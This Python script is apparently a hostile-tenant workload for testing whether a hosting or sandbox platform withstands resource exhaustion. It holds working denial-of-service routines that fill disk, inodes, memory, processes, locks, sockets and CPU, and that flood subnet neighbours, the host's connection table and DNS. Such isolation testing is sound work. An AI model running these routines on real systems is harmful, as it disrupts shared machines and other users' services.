"""What a hostile player with root runs in a machine: `attack.py KIND` answers on port 7000 first, so that the instance counts as ready,
then takes as much as it gets of KIND, for ever. Every call that the kernel refuses is tried again."""
import ctypes
import fcntl
import os
import socket
import struct
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)


def tireless(work):
    """Again and again, whatever is refused; 200 refusals a second at most, so that the loop itself is not the attack."""
    def run():
        while True:
            try:
                work()
            except (OSError, MemoryError):
                time.sleep(0.005)
    return run


def disk():
    with open("/hog", "ab", buffering=0) as file:
        while True:
            file.write(b"x" * (1 << 20))


def inodes():
    for number in range(1 << 30):
        folder = f"/many/{number // 1000}"
        if number % 1000 == 0:
            os.makedirs(folder, exist_ok=True)
        os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))


def depth():
    """One folder in the other, each under the last: removing it by whole paths fails."""
    os.makedirs("/deep", exist_ok=True)
    os.chdir("/deep")
    while True:
        os.makedirs("d" * 100, exist_ok=True)
        os.chdir("d" * 100)


def memory():
    if os.fork() == 0:  # the kernel kills the child, not this one
        held = []
        while True:
            held.append(bytearray(os.urandom(4096) * 256))
    os.wait()


def processes():
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)


def locks():
    file = os.open("/tmp/locked", os.O_CREAT | os.O_RDWR)
    for at in range(0, 1 << 40, 2):
        fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, at)


def sockets():
    held = []
    try:
        while True:
            pair = socket.socketpair()
            for one in pair:
                one.setblocking(False)
            held.append(pair)
            while True:
                pair[0].send(b"x" * 65536)
    except BlockingIOError:
        pass
    finally:
        SOCKETS.extend(held)
        del SOCKETS[:-400]


SOCKETS = []


def own_network():
    """(address, bits) of this machine's first network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        name = struct.pack("256s", b"eth0")
        address = struct.unpack(">I", fcntl.ioctl(asking, 0x8915, name)[20:24])[0]
        mask = struct.unpack(">I", fcntl.ioctl(asking, 0x891B, name)[20:24])[0]
    return address & mask, 0xFFFFFFFF ^ mask


def text(address):
    return socket.inet_ntoa(struct.pack(">I", address))


def arp():
    base, hosts = own_network()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.setblocking(False)
        for host in range(1, min(hosts, 65536)):
            try:
                asking.sendto(b"x", (text(base + host), 9))
            except OSError:
                continue
    time.sleep(0.2)


def conntrack():
    """Each pair of ports would be an entry of the host's table, kept for half a minute."""
    base, hosts = own_network()
    while True:
        for own in range(64):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
                for port in range(1, 65535, 7):
                    for host in range(2, min(hosts, 5)):
                        try:
                            asking.sendto(b"x", (text(base + host), port))
                        except OSError:
                            pass


def dns():
    question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06attack\x07example\x00" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.setblocking(False)
        for _ in range(100):
            try:
                asking.sendto(question, ("127.0.0.11", 53))
            except BlockingIOError:
                time.sleep(0.001)


def inotify():
    if LIBC.inotify_init1(0) < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")


def logs():
    os.write(1, b"a line that says nothing, over and over again\n" * 200)


def cpu():
    while True:
        sum(range(1 << 20))


def main():
    kind = sys.argv[1]
    # Where another process must live on after the kernel killed this one, the machine's first process only waits.
    door = socket.create_server(("", 7000), reuse_port=False, backlog=64)
    threading.Thread(target=lambda: [door.accept()[0].close() for _ in iter(int, 1)], daemon=True).start()
    workers = 4 if kind in ("cpu", "dns", "conntrack") else 1
    for _ in range(workers - 1):
        threading.Thread(target=tireless(globals()[kind]), daemon=True).start()
    time.sleep(2)
    tireless(globals()[kind])()


main()
